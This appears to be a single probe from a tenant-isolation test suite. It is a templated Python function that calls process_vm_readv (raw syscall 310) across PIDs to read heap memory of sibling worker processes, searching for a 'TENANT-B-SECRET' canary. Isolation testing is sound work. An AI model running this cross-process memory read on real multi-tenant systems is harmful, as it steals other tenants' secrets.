# family: processes
# kind: value
# machine: x86_64
# tries: process_vm_readv of other workers: forks of one zygote lie at the same addresses
# success looks like: TENANT-B-SECRET
def job(plugin):
  @LIBC@
  wanted = b'TENANT-B-' + b'SECRET'
  size = 1 << 20
  buffer = c.create_string_buffer(size)
  libc.sbrk.restype = c.c_void_p
  top = libc.sbrk(c.c_long(0))
  tried, reached = 0, []
  for pid in range(1, max(os.getpid(), 500) + 60):
    if pid == os.getpid():
      continue
    for step in range(1, 24):
      ours = (c.c_void_p * 2)(c.addressof(buffer), size)
      theirs = (c.c_void_p * 2)(top - step * size, size)
      got = call(310, pid, ours, 1, theirs, 1, 0)
      if got < 0:
        break
      tried = tried + 1
      at = buffer.raw.find(wanted)
      if at >= 0:
        reached.append(buffer.raw[at:at + 30])
        break
  return [tried, reached]
